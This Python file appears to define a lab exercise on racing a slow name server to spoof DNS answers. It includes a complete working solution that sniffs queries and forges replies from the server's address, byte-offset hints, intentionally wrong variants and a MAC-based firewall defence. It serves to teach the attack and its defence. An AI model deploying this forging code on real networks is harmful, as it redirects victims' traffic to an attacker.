"""Exercise 18: DNS answer spoofing in a race (RFC 1035, section 4.1; RFC 5452)."""

from __future__ import annotations

import socket
from collections.abc import Callable, Generator
from secrets import randbelow
from typing import Any

from rawkit.errors import TimedOut
from rawkit.lab import (
    Check,
    Defence,
    Evidence,
    Exercise,
    Finding,
    Link,
    Prediction,
    Seed,
    Stage,
    Topology,
    Values,
    Wrong,
    python,
    services,
)
from rawkit.netns import Worker
from rawkit.wire import UDP

__all__ = ["EXERCISE"]

TASK = """
On your hub, `{client}` asks the name server `{server}` for `{name}` again and again, and then says hello to
port `{port}` of whatever address it is told first. The name server takes a third of a second to answer. Be
quicker: answer in its name that `{name}` is at your own address, `{you}`, so that a hello comes to you.

The client believes an answer that comes from the server's address and port, to its own port, with the number of
its question. (The Python module `dnslib` is there, if you want to be spared the message's format.) End when hello
has come.
"""

SOLUTION = """
import os
from dnslib import A, RR, DNSRecord
from rawkit import IPv4, UDP
from rawkit.link import PacketSocket, RawIPv4Socket

you, client, server = os.environ["LAB_YOU"], os.environ["LAB_CLIENT"], os.environ["LAB_SERVER"]
with PacketSocket("eth0", promiscuous=True, filter="udp") as link, RawIPv4Socket() as raw:
    while True:
        packet = link.receive(8).packet()
        ip, udp = packet[IPv4], packet[UDP]
        if udp.dst_port == 53 and str(ip.src) == client:
            question = DNSRecord.parse(packet.payload)
            answer = question.reply()
            answer.add_answer(RR(question.q.qname, rdata=A(you), ttl=60))
            ports = UDP(src_port=53, dst_port=udp.src_port)
            raw.send(IPv4(src=server, dst=client) / ports / answer.pack())
        elif str(ip.dst) == you and udp.dst_port == int(os.environ["LAB_PORT"]):
            break
"""

GUARD = (
    "table ip guard {{ chain in {{ type filter hook input priority 0; "
    "ip saddr {server} ether saddr != {mac} drop; }}; }}"
)


def values(seed: Seed) -> dict[str, Any]:
    """Three stations, a name, where it really is, and a port."""
    network = seed.network()
    addresses = {name: seed.address(network) for name in ("you", "client", "server", "_truth")}
    return {
        **addresses,
        "_server_mac": seed.mac(),
        "name": f"{seed.word()}.{seed.word()}.lab",
        "port": seed.port(),
    }


def topology(v: Values) -> Topology:
    """Three hosts on a hub."""
    macs = {"you": None, "client": None, "server": v._server_mac}
    return Topology(
        [Link(name, "hub", (f"{v[name]}/24", ()), (mac, None)) for name, mac in macs.items()], hubs=["hub"]
    )


def ask(v: Values) -> Callable[[Worker], None]:
    """The client: asks, takes the first answer that fits, says hello there; again and again."""
    from dnslib import DNSError, DNSRecord

    def work(worker: Worker) -> None:
        worker.cues.give("ready")
        for _ in range(20):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
                asker.settimeout(1)
                asker.connect((v.server, 53))
                question = DNSRecord.question(v.name)
                question.header.id = randbelow(65536)
                try:
                    asker.send(question.pack())
                    while (answer := DNSRecord.parse(asker.recv(2048))).header.id != question.header.id:
                        pass
                    told = str(answer.a.rdata)
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as greeter:
                        greeter.sendto(b"hello", (told, v.port))
                except (OSError, DNSError):  # nothing fitting came
                    pass
            try:
                worker.cues.take(0.3)
                return  # the other process has ended
            except TimedOut:
                continue

    return work


def scene(stage: Stage) -> Generator[None, None, None]:
    """A slow name server, and a client that never remembers."""
    v = stage.values
    if stage.defended:
        stage.host("client").add_rules(GUARD.format(server=v.server, mac=v._server_mac))
    stage.act("server", services.dns({v.name: v._truth}, delay=0.33), ready=True)
    stage.act("client", ask(v), ready=True)
    yield


def fits(e: Evidence) -> Finding:
    """Whether a forged answer has the number, and the port, of a question that came before it."""
    forged = e.wire.sent_by("you").ip(src=e.values.server, dst=e.values.client).udp(src_port=53)
    best = forged.sound().saw()
    for one in forged.sound():
        asked = e.wire.sent_by("client").udp(dst_port=53).before(one).last()
        if asked is None:
            continue
        right_number = asked.packet.payload[:2] == one.packet.payload[:2]
        if right_number and asked.packet[UDP].src_port == one.packet[UDP].dst_port:
            return Finding(True, "an answer that fits its question", "there it is", (one.number, asked.number))
        numbers = asked.packet.payload[:2].hex(), one.packet.payload[:2].hex()
        ports = asked.packet[UDP].src_port, one.packet[UDP].dst_port
        seen = f"question 0x{numbers[0]} from port {ports[0]}, answer 0x{numbers[1]} to {ports[1]}"
        best = Finding(False, "the number and the port of the question", seen, (one.number, asked.number), 36, 44)
    return best


EXERCISE = Exercise(
    name="dns-spoof",
    number=18,
    level=4,
    title="DNS answer spoofing in a race",
    learnt="What makes an answer believable to a resolver, and that the first one wins.",
    values=values,
    topology=topology,
    scene=scene,
    task=TASK,
    prediction=Prediction(
        "The server's own answer comes after yours. What does the client "
        "do with it? (believe it, compare both or ignore it)",
        lambda _: "ignore it",
        "A question is answered once; what comes for it afterwards finds nobody waiting (RFC 5452, section 4.1).",
    ),
    hints=(
        "You hear the question, so nothing in it has to be guessed: number, port and name are all there.",
        "Source address and port are the server's, the destination port is "
        "the question's; the first two bytes repeat its number.",
        "UDP's ports are in bytes 34 to 37 of the frame, its checksum in "
        "40 and 41, the number of the question in 42 and 43.",
    ),
    checks=[
        Check(
            "forged",
            "you send the client an answer in the name of {server}, sound",
            lambda e: (
                e.wire.sent_by("you").ip(src=e.values.server, dst=e.values.client).udp(src_port=53).sound().saw()
            ),
            "RFC 5452, section 3",
        ),
        Check("fits", "it has the number and the port of the question", fits, "RFC 5452, section 4.2"),
        Check(
            "hello",
            "the client's hello comes to you",
            lambda e: (
                e.wire.sent_by("client").ip(dst=e.values.you).udp(dst_port=e.values.port).payload(b"hello").saw()
            ),
            "RFC 5452, section 3",
        ),
    ],
    defence=Defence("a rule at the client that takes the server's address from its MAC address only", "hello"),
    solution=python(SOLUTION),
    wrong=[
        Wrong(
            python(
                SOLUTION.replace("src_port=53, dst_port=udp.src_port", "src_port=53, dst_port=53").replace(
                    "while True:", "for _ in range(12):"
                )
            ),
            "fits",
            "to 53",
        ),
        Wrong(
            python(
                SOLUTION.replace(
                    "            ports =", "            answer.header.id ^= 1\n            ports ="
                ).replace("while True:", "for _ in range(12):")
            ),
            "fits",
            "answer 0x",
        ),
        Wrong(
            python(
                SOLUTION.replace("IPv4(src=server, dst=client)", "IPv4(src=you, dst=client)").replace(
                    "while True:", "for _ in range(12):"
                )
            ),
            "forged",
            "src is",
        ),
    ],
)
